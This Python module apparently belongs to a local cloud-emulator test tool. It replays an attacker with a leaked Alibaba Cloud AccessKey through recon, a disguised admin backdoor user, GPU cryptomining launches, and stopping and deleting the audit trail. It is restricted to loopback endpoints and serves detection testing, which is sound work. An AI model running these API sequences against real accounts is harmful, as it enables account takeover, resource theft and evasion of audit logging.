"""Replay an attacker who has a leaked AccessKey, through the official SDKs.

``python -m emulator attack`` drives the unmodified RAM, STS, ECS and ActionTrail
clients against an emulator as an attacker would after finding a key:

* ``recon``: GetCallerIdentity, ListUsers, ListAccessKeys, ListPoliciesForUser,
  DescribeRegions and LookupEvents.
* ``backdoor``: CreateUser, CreateAccessKey for it, CreateLoginProfile and
  AttachPolicyToUser AdministratorAccess, then GetCallerIdentity and ListUsers with the
  new key (printed as ``GetCallerIdentity@backdoor``), which lineage analysis must tie
  back to the leaked key.
* ``cryptomine``: RunInstances of GPU instances in a region the account does not use.
* ``tamper``: DescribeTrails, then StopLogging and DeleteTrail on the first trail.
* ``full``: recon, backdoor, cryptomine and tamper in that order.

Each step prints one line, ``<UTC time> <API> ok|denied|error <ErrorCode or ->``, with
the time in milliseconds from this machine's clock. ``denied`` means the cloud rejected
the key or the permission (NoPermission, Forbidden.*, InvalidAccessKeyId.*, ...), which
is what a contained key gets. ``error`` is any other failure. Secrets are never
printed: the backdoor key's secret and the login password stay in memory.

Every request carries ``x-forwarded-for: <source ip>`` through the SDK's runtime
headers, so the emulator records the attacker's address; the user agent is the SDK's
own. The replay only talks to loopback addresses, because it is a test tool for the
local emulator.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import secrets
import signal
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TextIO
from urllib.parse import urlsplit

from alibabacloud_actiontrail20200706 import models as actiontrail_models
from alibabacloud_actiontrail20200706.client import Client as ActionTrailClient
from alibabacloud_ecs20140526 import models as ecs_models
from alibabacloud_ecs20140526.client import Client as EcsClient
from alibabacloud_ram20150501 import models as ram_models
from alibabacloud_ram20150501.client import Client as RamClient
from alibabacloud_sts20150401.client import Client as StsClient
from alibabacloud_tea_openapi import models as open_api_models
from darabonba.runtime import ExtendsParameters, RuntimeOptions
from Tea.exceptions import TeaException, UnretryableException

PLAYBOOKS = ("recon", "backdoor", "cryptomine", "tamper")
PLAYBOOK_CHOICES = (*PLAYBOOKS, "full")
DEFAULT_SOURCE_IP = "203.0.113.66"  # TEST-NET-3, reserved for documentation
DEFAULT_TARGET_REGION = "ap-southeast-5"
GPU_INSTANCE_TYPE = "ecs.gn7i-c32g1.8xlarge"
GPU_INSTANCE_COUNT = 4
MINER_IMAGE_ID = "ubuntu_22_04_x64_20G_alibase_20240220.vhd"
BACKDOOR_USER_PREFIX = "svc-backup-"
FALLBACK_TRAIL_NAME = "default"
SECRET_ENVIRONMENT_VARIABLE = "ALIBABA_CLOUD_ACCESS_KEY_SECRET"
# Error codes that mean the cloud rejected the key or the permission.
DENIED_CODE_PREFIXES = (
    "NoPermission",
    "Forbidden",
    "Forbbiden",  # a misspelling some Alibaba products return
    "InvalidAccessKeyId",
    "InvalidSecurityToken",
    "NotAuthorized",
    "AccessForbidden",
    "Unauthorized",
)
READ_TIMEOUT_MS = 10000
CONNECT_TIMEOUT_MS = 3000


def utc_now_text() -> str:
    """Return the current UTC time as ``2026-12-04T15:29:47.123Z``."""
    moment = datetime.now(UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def outcome_of(code: str) -> str:
    """Classify an error code as ``denied`` or ``error``."""
    return "denied" if code.startswith(DENIED_CODE_PREFIXES) else "error"


@dataclass(frozen=True)
class StepResult:
    time: str
    api: str
    outcome: str  # "ok", "denied" or "error"
    code: str  # the error code, "" when ok

    def line(self) -> str:
        return f"{self.time} {self.api} {self.outcome} {self.code or '-'}"


@dataclass
class Clients:
    """The SDK clients of one AccessKey."""

    ram: RamClient
    sts: StsClient
    ecs: EcsClient
    actiontrail: ActionTrailClient


def parse_endpoint(text: str) -> tuple[str, str]:
    """Split ``http://127.0.0.1:PORT`` into (``127.0.0.1:PORT``, ``http``).

    Raises ValueError unless the host is a loopback address.
    """
    parts = urlsplit(text if "://" in text else f"http://{text}")
    if parts.scheme not in ("http", "https"):
        raise ValueError(
            f"--endpoint {text!r} has scheme {parts.scheme!r}; use http://HOST:PORT"
        )
    host = parts.hostname or ""
    try:
        loopback = host == "localhost" or ipaddress.ip_address(host).is_loopback
    except ValueError:
        loopback = False
    if not loopback:
        raise ValueError(
            f"--endpoint {text!r} is not a loopback address; the replay only attacks "
            "a local emulator, such as http://127.0.0.1:PORT"
        )
    if parts.path not in ("", "/") or parts.query:
        raise ValueError(
            f"--endpoint {text!r} has a path or query; give only http://HOST:PORT"
        )
    return parts.netloc, parts.scheme


def make_clients(endpoint: str, key_id: str, secret: str) -> Clients:
    """Build the SDK clients for one key against an emulator endpoint."""
    host, protocol = parse_endpoint(endpoint)

    def config() -> open_api_models.Config:
        return open_api_models.Config(
            access_key_id=key_id,
            access_key_secret=secret,
            endpoint=host,
            protocol=protocol,
            region_id="cn-hangzhou",
            read_timeout=READ_TIMEOUT_MS,
            connect_timeout=CONNECT_TIMEOUT_MS,
        )

    return Clients(
        ram=RamClient(config()),
        sts=StsClient(config()),
        ecs=EcsClient(config()),
        actiontrail=ActionTrailClient(config()),
    )


class Attacker:
    """An attacker with a leaked key, running playbooks step by step."""

    def __init__(
        self,
        endpoint: str,
        access_key_id: str,
        access_key_secret: str,
        *,
        source_ip: str = DEFAULT_SOURCE_IP,
        target_region: str = DEFAULT_TARGET_REGION,
        output: TextIO | None = None,
    ) -> None:
        self.endpoint = endpoint
        self.leaked = make_clients(endpoint, access_key_id, access_key_secret)
        self.runtime = RuntimeOptions(
            read_timeout=READ_TIMEOUT_MS,
            connect_timeout=CONNECT_TIMEOUT_MS,
            extends_parameters=ExtendsParameters(
                headers={"x-forwarded-for": source_ip}
            ),
        )
        self.target_region = target_region
        self.output = output if output is not None else sys.stdout
        self.results: list[StepResult] = []
        self.user_name: str | None = None
        self.trail_name: str | None = None
        self.backdoor_user: str | None = None
        self.backdoor: Clients | None = None  # the backdoor key, kept in memory only

    def step(self, api: str, call: Callable[[], Any]) -> Any:
        """Run one API call, print its line and return the response or None."""
        started = utc_now_text()
        response = None
        try:
            response = call()
        except UnretryableException:
            # The request did not complete (refused connection, timeout): no code.
            result = StepResult(started, api, "error", "ConnectionFailed")
        except TeaException as error:
            code = str(error.code or type(error).__name__)
            result = StepResult(started, api, outcome_of(code), code)
        else:
            result = StepResult(started, api, "ok", "")
        self.results.append(result)
        print(result.line(), file=self.output, flush=True)
        return response

    def run(self, playbook: str) -> list[StepResult]:
        """Run one playbook (or ``full``) once and return its step results."""
        start = len(self.results)
        names = PLAYBOOKS if playbook == "full" else (playbook,)
        for name in names:
            getattr(self, f"play_{name}")()
        return self.results[start:]

    def play_recon(self) -> None:
        identity = self.step(
            "GetCallerIdentity",
            lambda: self.leaked.sts.get_caller_identity_with_options(self.runtime),
        )
        if identity is not None:
            arn = identity.body.arn or ""
            if ":user/" in arn:
                self.user_name = arn.rsplit("/", 1)[-1]
        ram = self.leaked.ram
        self.step(
            "ListUsers",
            lambda: ram.list_users_with_options(
                ram_models.ListUsersRequest(max_items=100), self.runtime
            ),
        )
        self.step(
            "ListAccessKeys",
            lambda: ram.list_access_keys_with_options(
                ram_models.ListAccessKeysRequest(), self.runtime
            ),
        )
        # Without a caller name (the key did not authenticate) the call still goes
        # out, so the line shows the cloud's response to the key.
        user_name = self.user_name or "unknown"
        self.step(
            "ListPoliciesForUser",
            lambda: ram.list_policies_for_user_with_options(
                ram_models.ListPoliciesForUserRequest(user_name=user_name), self.runtime
            ),
        )
        self.step(
            "DescribeRegions",
            lambda: self.leaked.ecs.describe_regions_with_options(
                ecs_models.DescribeRegionsRequest(), self.runtime
            ),
        )
        self.step(
            "LookupEvents",
            lambda: self.leaked.actiontrail.lookup_events_with_options(
                actiontrail_models.LookupEventsRequest(max_results="5"), self.runtime
            ),
        )

    def play_backdoor(self) -> None:
        user_name = BACKDOOR_USER_PREFIX + secrets.token_hex(3)
        ram = self.leaked.ram
        created = self.step(
            "CreateUser",
            lambda: ram.create_user_with_options(
                ram_models.CreateUserRequest(
                    user_name=user_name, display_name="Backup service"
                ),
                self.runtime,
            ),
        )
        if created is not None:
            self.backdoor_user = user_name
        key = self.step(
            "CreateAccessKey",
            lambda: ram.create_access_key_with_options(
                ram_models.CreateAccessKeyRequest(user_name=user_name), self.runtime
            ),
        )
        if key is not None and key.body.access_key is not None:
            new_key = key.body.access_key
            self.backdoor = make_clients(
                self.endpoint, new_key.access_key_id, new_key.access_key_secret
            )
        password = secrets.token_urlsafe(18) + "Aa1!"
        self.step(
            "CreateLoginProfile",
            lambda: ram.create_login_profile_with_options(
                ram_models.CreateLoginProfileRequest(
                    user_name=user_name,
                    password=password,
                    password_reset_required=False,
                    mfabind_required=False,
                ),
                self.runtime,
            ),
        )
        self.step(
            "AttachPolicyToUser",
            lambda: ram.attach_policy_to_user_with_options(
                ram_models.AttachPolicyToUserRequest(
                    policy_type="System",
                    policy_name="AdministratorAccess",
                    user_name=user_name,
                ),
                self.runtime,
            ),
        )
        self._use_backdoor()

    def _use_backdoor(self) -> None:
        backdoor = self.backdoor
        if backdoor is None:
            # No backdoor key was ever created, so there is nothing to call with.
            for api in ("GetCallerIdentity@backdoor", "ListUsers@backdoor"):
                result = StepResult(utc_now_text(), api, "error", "NoBackdoorKey")
                self.results.append(result)
                print(result.line(), file=self.output, flush=True)
            return
        self.step(
            "GetCallerIdentity@backdoor",
            lambda: backdoor.sts.get_caller_identity_with_options(self.runtime),
        )
        self.step(
            "ListUsers@backdoor",
            lambda: backdoor.ram.list_users_with_options(
                ram_models.ListUsersRequest(max_items=100), self.runtime
            ),
        )

    def play_cryptomine(self) -> None:
        self.step(
            "RunInstances",
            lambda: self.leaked.ecs.run_instances_with_options(
                ecs_models.RunInstancesRequest(
                    region_id=self.target_region,
                    instance_type=GPU_INSTANCE_TYPE,
                    image_id=MINER_IMAGE_ID,
                    amount=GPU_INSTANCE_COUNT,
                    instance_name="worker-" + secrets.token_hex(3),
                    internet_max_bandwidth_out=100,
                ),
                self.runtime,
            ),
        )

    def play_tamper(self) -> None:
        trails = self.step(
            "DescribeTrails",
            lambda: self.leaked.actiontrail.describe_trails_with_options(
                actiontrail_models.DescribeTrailsRequest(), self.runtime
            ),
        )
        if trails is not None and trails.body.trail_list:
            self.trail_name = trails.body.trail_list[0].name
        # A trail found in an earlier run is still the target. Without one the name is
        # a guess, so that the line still shows the cloud's response to this key.
        name = self.trail_name or FALLBACK_TRAIL_NAME
        actiontrail = self.leaked.actiontrail
        self.step(
            "StopLogging",
            lambda: actiontrail.stop_logging_with_options(
                actiontrail_models.StopLoggingRequest(name=name), self.runtime
            ),
        )
        self.step(
            "DeleteTrail",
            lambda: actiontrail.delete_trail_with_options(
                actiontrail_models.DeleteTrailRequest(name=name), self.runtime
            ),
        )


def secret_from_scenario(path: Path, access_key_id: str) -> str:
    """Return the secret a scenario file gives a user's or the root's key.

    Raises ValueError when the file is unreadable or does not contain the key.
    """
    try:
        scenario = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError) as error:
        raise ValueError(f"cannot read scenario {path}: {error}") from None
    keys = [
        *(
            key
            for user in scenario.get("users", [])
            for key in user.get("AccessKeys", [])
        ),
        *scenario.get("root_access_keys", []),
    ]
    for key in keys:
        if key.get("AccessKeyId") == access_key_id and key.get("AccessKeySecret"):
            return str(key["AccessKeySecret"])
    raise ValueError(
        f"scenario {path} has no key {access_key_id!r}; check --access-key-id"
    )


def _source_ip(text: str) -> str:
    try:
        return str(ipaddress.ip_address(text))
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"{text!r} is not an IP address; give one such as {DEFAULT_SOURCE_IP}"
        ) from None


def _interval(text: str) -> float:
    try:
        seconds = float(text)
    except ValueError:
        seconds = -1.0
    if not seconds >= 0:
        raise argparse.ArgumentTypeError(
            f"{text!r} is not a number of seconds; give 0 or more, such as 0.5"
        )
    return seconds


def _positive_int(text: str) -> int:
    if not text.isdigit() or int(text) < 1:
        raise argparse.ArgumentTypeError(f"{text!r} is not a whole number of 1 or more")
    return int(text)


def add_attack_parser(subparsers: Any) -> argparse.ArgumentParser:
    """Register the ``attack`` subcommand on argparse subparsers."""
    parser = subparsers.add_parser(
        "attack",
        help="replay an attacker with a leaked AccessKey against the emulator",
        description=__doc__.split("\n\n", 1)[0],
    )
    configure_attack_parser(parser)
    return parser


def configure_attack_parser(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--endpoint",
        required=True,
        help="emulator URL, such as http://127.0.0.1:18931 (loopback only)",
    )
    parser.add_argument("--access-key-id", required=True, help="the leaked key's id")
    parser.add_argument(
        "--access-key-secret",
        help=f"the leaked key's secret (default: ${SECRET_ENVIRONMENT_VARIABLE}, "
        "which keeps it out of the process list)",
    )
    parser.add_argument(
        "--scenario",
        type=Path,
        metavar="FILE",
        help="read the leaked key's secret from this scenario file instead",
    )
    parser.add_argument(
        "--playbook",
        required=True,
        choices=PLAYBOOK_CHOICES,
        help="steps to run; full runs recon, backdoor, cryptomine and tamper in order",
    )
    parser.add_argument(
        "--loop", action="store_true", help="repeat the playbook until stopped"
    )
    parser.add_argument(
        "--interval",
        type=_interval,
        default=1.0,
        metavar="S",
        help="seconds to wait between runs with --loop (default: %(default)s)",
    )
    parser.add_argument(
        "--max-runs",
        type=_positive_int,
        metavar="N",
        help="stop after N runs of the playbook (default: 1, or no limit with --loop)",
    )
    parser.add_argument(
        "--source-ip",
        type=_source_ip,
        default=DEFAULT_SOURCE_IP,
        help="address sent as x-forwarded-for (default: %(default)s)",
    )
    parser.add_argument(
        "--region",
        default=DEFAULT_TARGET_REGION,
        help="region for the cryptomine playbook's instances (default: %(default)s)",
    )
    parser.set_defaults(func=run_attack, parser=parser)


def run_attack(args: argparse.Namespace) -> int:
    """Run the ``attack`` subcommand; return 0 when the playbook ran."""
    parser: argparse.ArgumentParser = args.parser
    secret = args.access_key_secret or os.environ.get(SECRET_ENVIRONMENT_VARIABLE)
    if args.scenario is not None:
        try:
            secret = secret_from_scenario(args.scenario, args.access_key_id)
        except ValueError as error:
            parser.error(str(error))
    if not secret:
        parser.error(
            "the leaked key's secret is missing; pass --access-key-secret or "
            f"--scenario, or set {SECRET_ENVIRONMENT_VARIABLE}"
        )
    try:
        parse_endpoint(args.endpoint)
    except ValueError as error:
        parser.error(str(error))
    attacker = Attacker(
        args.endpoint,
        args.access_key_id,
        secret,
        source_ip=args.source_ip,
        target_region=args.region,
    )
    max_runs = args.max_runs or (None if args.loop else 1)

    def stop(signum: int, frame: object) -> None:
        raise KeyboardInterrupt

    previous_handler = signal.signal(signal.SIGTERM, stop)
    runs = 0
    try:
        while max_runs is None or runs < max_runs:
            if runs:
                time.sleep(args.interval)
            attacker.run(args.playbook)
            runs += 1
    except KeyboardInterrupt:
        pass  # stopped by SIGTERM or Ctrl-C, the normal end of --loop
    finally:
        signal.signal(signal.SIGTERM, previous_handler)
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    """Run the replay as ``python -m emulator.attack``."""
    parser = argparse.ArgumentParser(
        prog="python -m emulator.attack", description=__doc__.split("\n\n", 1)[0]
    )
    configure_attack_parser(parser)
    args = parser.parse_args(argv)
    return run_attack(args)


if __name__ == "__main__":
    sys.exit(main())
